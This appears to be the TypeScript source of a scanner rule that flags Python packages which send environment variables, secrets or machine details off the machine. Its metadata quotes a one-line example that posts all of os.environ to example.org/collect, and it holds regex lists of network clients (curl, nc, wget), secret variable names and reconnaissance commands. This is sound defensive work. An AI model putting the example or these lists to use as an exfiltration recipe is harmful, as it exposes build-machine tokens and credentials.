/** Rule: facts about the machine, its environment or its secrets are sent away. */
import { parametersOf, type SourceKind } from '../catalog/model';
import { isProved, type Taint } from '../dataflow/taint';
import { unknown } from '../dataflow/value';
import { enclosing } from '../semantics/enclosing';
import type { Expr } from '../syntax/python/ast';
import type { Rule, RuleContext, Site } from './rule';
import { serverOf } from './servers';
import { isIdentity, isMainGuard, isTestRole, readingOf, runsAtOnce, sourcePhrase } from './values';

export const dataExfiltration: Rule = {
  metadata: {
    id: 'data-exfiltration',
    category: 'network',
    title: 'Data leaves the machine',
    why: 'Who builds a package owes its author no host name, no user name, no environment and no files. Environments of build machines hold tokens; sending them anywhere is the commonest aim of malicious packages.',
    advice: 'Remove it. If it is not yours: do not build this package, and tell the index (PyPI: “Report project as malware”).',
    example: { bad: 'import os, requests\nrequests.post("https://example.org/collect", json=dict(os.environ))', good: '# nothing: a build has nobody to report to' },
    cwe: [200, 359],
    sources: ['https://attack.mitre.org/techniques/T1041/', 'https://docs.pypi.org/project-management/reporting/'],
  },
  fixable: false,
  check(context) {
    if (isTestRole(context.program.role)) return;
    for (const sink of ['network', 'dns'] as const) for (const site of context.sites(sink)) sends(context, site, sink);
    for (const sink of ['shell', 'process'] as const) {
      for (const site of context.sites(sink)) {
        const value = site.argument(site.calls[0]!.model.sinks![sink]!)?.value ?? unknown;
        const client = NETWORK_CLIENT.exec(readingOf(value).join(' '))?.[1];
        const [taint] = value.taints.filter(isPrivate).sort((a, b) => (a.key < b.key ? -1 : 1));
        if (client && taint) context.report({ point: site.point, severity: 'error', confidence: 'high', persona: 'regular', message: `\`${client}\`, started here, sends away ${sourcePhrase(taint)}`, taint });
      }
    }
  },
};

function sends(context: RuleContext, site: Site, sink: 'network' | 'dns'): void {
  // Looking up one's own name is how one's own address is found out.
  const calls = sink === 'dns' ? site.calls.filter(({ args, model }) => !isIdentity(args.get(model.sinks!.dns!)?.value ?? unknown)) : site.calls;
  if (calls.length === 0 || isLogin(site)) return;
  const taints = calls.flatMap((call) => [...call.args].filter(([name]) => name !== 'self').flatMap(([, { value }]) => value.taints));
  // A program that was asked to, sends what its user typed and kept for it; a build was not asked.
  const mine = taints.filter((one) => isPrivate(one) && (!ON_REQUEST.has(one.kind) || calls.some(({ entry, gates }) => runsAtOnce(entry) && !gates.some(isMainGuard))));
  const [taint] = mine.sort((a, b) => (a.key < b.key ? -1 : 1));
  const name = site.path.replace(/\(\)/g, '');
  if (taint) {
    const what = [...new Set(mine.map(sourcePhrase))].slice(0, 3).join(', ');
    context.report({ point: site.point, severity: 'error', confidence: 'high', persona: 'regular', message: `\`${name}\` sends away ${what}`, taint, signs: sink === 'dns' ? ['network:dns'] : [] });
    return;
  }
  const key = sink === 'network' ? secretSentInSilence(context, site) : undefined;
  if (key) {
    context.report({ point: site.point, severity: 'error', confidence: 'medium', persona: 'regular', message: `\`${name}\` sends \`${key.detail}\` to \`${serverOf(site)!}\`, and nothing looks at the answer`, taint: key });
    return;
  }
  // Whoever downloads from a private place shows a token for it, so that this alone is no proof.
  const secret = taints.find((one) => one.kind === 'environment' && SECRET_VARIABLE.test(one.detail));
  if (secret) context.report({ point: site.point, severity: 'warning', confidence: 'medium', persona: 'regular', message: `\`${name}\` sends away the secret in ${sourcePhrase(secret)}`, taint: secret });
}

/** What opens a connection takes a name and a password to get in: no more is sent, and whoever collects data would send it afterwards. */
const isLogin = ({ calls }: Site): boolean => {
  const parameters = parametersOf(calls[0]!.model);
  return /^host(?:name)?$/.test(parameters[0]?.name ?? '') && parameters.some(({ name }) => /^passw(?:or)?d$/.test(name));
};

/** A key that opens a wallet or an account, given to a server that stands in the code, by a request whose answer is of no use: who asks something of a server wants to know what it says. */
function secretSentInSilence(context: RuleContext, site: Site): Taint | undefined {
  if (serverOf(site) === undefined) return undefined;
  const given = site.calls.flatMap((call) => [...call.args].filter(([name]) => !SHOWN_TO_GET_IN.test(name)).flatMap(([, { value }]) => value.taints));
  const key = given.find((taint) => taint.kind === 'named-secret' && !isProved(taint, 'hashed'));
  return key && isUnheard(context, site) ? key : undefined;
}

/** Parameters by which a client says who it is. */
const SHOWN_TO_GET_IN = /^(?:self|headers|auth|cookies|cert|verify)$/;

/** Whether the result of a call is thrown away, or kept under a name that nothing mentions. */
function isUnheard(context: RuleContext, { point }: Site): boolean {
  const statement = enclosing(point.unit, point.start, point.end)?.statements.at(-1);
  if (statement?.kind === 'ExprStmt') return withoutAwait(statement.value).start === point.start && withoutAwait(statement.value).end === point.end;
  const [target] = statement?.kind === 'Assign' && statement.targets.length === 1 ? statement.targets : [];
  return target?.kind === 'Name' && [...context.program.module.text.matchAll(new RegExp(`\\b${target.id}\\b`, 'gu'))].length === 1;
}

const withoutAwait = (node: Expr): Expr => (node.kind === 'Await' ? node.value : node);

/** What users give away themselves, when they are asked for it. */
const ON_REQUEST: ReadonlySet<SourceKind> = new Set(['user-input', 'credential']);

/** Variables that hold secrets, by their names. */
const SECRET_VARIABLE = /TOKEN|SECRET|PASSW(?:OR)?D|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIAL/i;

/** Programs whose arguments leave the machine. */
const NETWORK_CLIENT = /(?:^|[\s;&|(`\\/"'])(nslookup|dig|host|ping|curl|wget|nc|ncat|telnet|ftp|tftp|scp|iwr|invoke-webrequest|invoke-restmethod)(?:\.exe)?\s/i;

/** One variable may be a mirror's address; all of them are not. */
function isPrivate(taint: Taint): boolean {
  switch (taint.kind) {
    case 'identity': case 'user-input': case 'whole-environment': case 'secret-file': case 'found-file': case 'stored-secret': case 'credential': case 'capture': return true;
    // Tools are asked for versions and flags; these are asked about the machine and its user.
    case 'process-output': return /\b(?:whoami|hostname|id|uname|ifconfig|ipconfig|env|printenv|systeminfo|wmic|ls|dir|ps|cat|netstat|getent|last)\b/.test(taint.detail);
    default: return false;
  }
}
